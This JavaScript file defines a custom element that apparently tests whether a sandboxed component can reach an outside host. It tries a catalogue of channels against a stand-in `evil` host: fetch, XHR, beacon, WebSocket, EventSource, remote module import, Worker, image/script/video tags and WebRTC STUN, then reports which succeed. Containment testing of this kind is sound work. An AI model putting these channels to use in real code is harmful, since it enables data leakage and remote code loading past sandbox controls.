// It wants to tell others what it sees, by every way there is. `data.evil` is where to.
const tried = {};

async function attempt(name, work) {
  try {
    tried[name] = String(await work());
  } catch (error) {
    tried[name] = error.name;
  }
}

export default class extends HTMLElement {
  async load({ data: { evil, page } }) {
    this.style.background = `url(${evil}/style)`;
    await attempt("fetch", () => fetch(`${evil}/fetch`, { mode: "no-cors" }));
    await attempt("page", () => fetch(page, { mode: "no-cors" }));
    await attempt("xhr", () => {
      const request = new XMLHttpRequest();
      request.open("GET", `${evil}/xhr`, false);
      request.send();
    });
    await attempt("beacon", () => navigator.sendBeacon(`${evil}/beacon`, "x"));
    await attempt("socket", () => this.opened(new WebSocket(evil.replace("http", "ws"))));
    await attempt("events", () => this.opened(new EventSource(`${evil}/events`)));
    await attempt("import", () => import(`${evil}/module.js`));
    await attempt("worker", () => this.opened(new Worker(URL.createObjectURL(new Blob([`fetch("${evil}/worker")`])))));
    await attempt("image", () => this.put("img", `${evil}/image`));
    await attempt("script", () => this.put("script", `${evil}/script`));
    await attempt("video", () => this.put("video", `${evil}/video`));
    await attempt("peer", () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(evil).host}` }] });
      peer.createDataChannel("x");
      return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    });
    await new Promise((resolve) => setTimeout(resolve, 300));
  }
  opened(it) {
    return new Promise((resolve, reject) => {
      it.onopen = () => resolve("open");
      it.onmessage = () => resolve("message");
      it.onerror = () => reject(new Error("no"));
      setTimeout(() => reject(new Error("no")), 200);
    });
  }
  put(tag, src) {
    return new Promise((resolve, reject) => {
      const it = document.createElement(tag);
      it.onload = () => resolve("load");
      it.onerror = () => reject(new Error("no"));
      it.src = src;
      this.append(it);
      setTimeout(() => reject(new Error("no")), 200);
    });
  }
  async playAction() {
    return { statusCode: 200, currentStep: 0, result: tried };
  }
  async stopAction() {}
  async dispose() {}
}
